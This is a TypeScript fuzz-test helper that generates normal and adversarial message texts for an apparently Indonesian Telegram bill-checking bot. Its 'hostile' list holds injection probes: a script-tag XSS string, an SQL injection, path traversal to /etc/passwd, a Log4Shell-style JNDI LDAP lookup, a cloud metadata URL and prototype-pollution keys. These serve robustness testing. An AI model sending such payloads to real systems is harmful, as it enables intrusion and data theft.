import fc from "fast-check";
import type { Actor } from "./cast.ts";
import type { Random } from "./random.ts";

/** What nobody means well with. */
const hostile: readonly string[] = [
  "",
  " ",
  "\u0000",
  "\u202e\u202d514040400482\u202c",
  "5\u200b1\u200d4\u20604\ufeff",
  "<b>tebal</b><script>alert(1)</script>",
  "</code></pre><a href='https://example.org'>klik</a>",
  "*_[`~>#+-=|{}.!\\",
  "{{rupiah}} {{constructor.prototype}} $& $1 %s %n",
  'x\r\n2026-01-05 level=50 msg="failed"\u001b[2J\u2028\u2029',
  '{"level":60,"msg":"gone"}',
  "__proto__",
  "constructor",
  "../../../../etc/passwd",
  "' OR 1=1; --",
  ["$", "{jndi:ldap://example.org/a}"].join(""),
  "https://169.254.169.254/latest/meta-data",
  "👩‍👩‍👧‍👦".repeat(300),
  "\ud800\udfff\udc00",
  "ﷺ".repeat(400),
  "a\u0300".repeat(2_000),
  "9".repeat(4_000),
  "/".repeat(3_000),
  "pln ".repeat(1_000),
  `${"pln ".repeat(500)}514040400482`,
  "\n".repeat(4_000),
  "١٢٣٤٥٦٧٨٩٠١٢",
  "５１４０４０４００４８２",
  "/cek@cek_tagihan_bot@cek_tagihan_bot",
  "/start start_start_start",
  `/start ${"A".repeat(500)}`,
  "/\u0000start",
  "/pengumuman \u202e---\n---\n---",
];

const commands = [
  "start",
  "cek",
  "check",
  "terakhir",
  "last",
  "batal",
  "cancel",
  "bahasa",
  "language",
  "bantuan",
  "help",
];
const deskCommands = [
  "status",
  "provider",
  "produk",
  "product",
  "pengumuman",
  "announce",
  "lacak",
  "trace",
  "agen",
  "agents",
  "audit",
  "undang",
  "invite",
  "privasi",
  "privacy",
  "grup",
  "group",
  "kuota",
  "quota",
  "id",
];
const lines = [
  "pln",
  "PLN Pascabayar",
  "pdam bogor",
  "bpjs kesehatan",
  "mobile legends",
  "gopay",
  "1",
  "2",
  "12",
  "50k",
  "100.000",
  "token listrik",
  "telkom",
  "kai",
  "halo",
  "@cek_tagihan_bot",
  "ayopop off 30m",
  "Besok tutup.\n---\nClosed tomorrow.",
] as const;

const made = fc.oneof(
  fc.string({ unit: "binary", maxLength: 60 }),
  fc.string({ unit: "binary-ascii", maxLength: 60 }),
  fc.stringMatching(/^[0-9 .-]{1,24}$/),
  fc.stringMatching(/^\/[a-z]{1,12}(@cek_tagihan_bot)?( [\w-]{0,40})?$/),
);

/** What people write, and what they should not. */
export function textsFrom(seed: number, random: Random) {
  const pool = [...hostile, ...fc.sample(made, { seed, numRuns: 400 })];

  const hostileText = () => random.some(pool) ?? "";
  return {
    hostile: hostileText,
    /** Of somebody who wants a bill. */
    sane: ({ numbers }: Pick<Actor, "numbers">): string => {
      const number = random.some(numbers) ?? "";
      switch (random.below(8)) {
        case 0:
          return number;
        case 1:
          return `pln pascabayar ${number}`;
        case 2:
          return `${random.pick(lines)} ${number}`;
        case 3:
          return `/${random.some(commands)}${random.chance(0.3) ? ` ${random.pick(lines)} ${number}` : ""}`;
        case 4:
          return `/${random.some(deskCommands)}${random.chance(0.5) ? ` ${random.pick(lines)}` : ""}`;
        case 5:
          return `/${random.some(deskCommands)} ${hostileText()}`;
        case 6:
          return `@cek_tagihan_bot ${random.pick(lines)} ${number}`;
        default:
          return random.pick(lines);
      }
    },
  };
}

export type Texts = ReturnType<typeof textsFrom>;
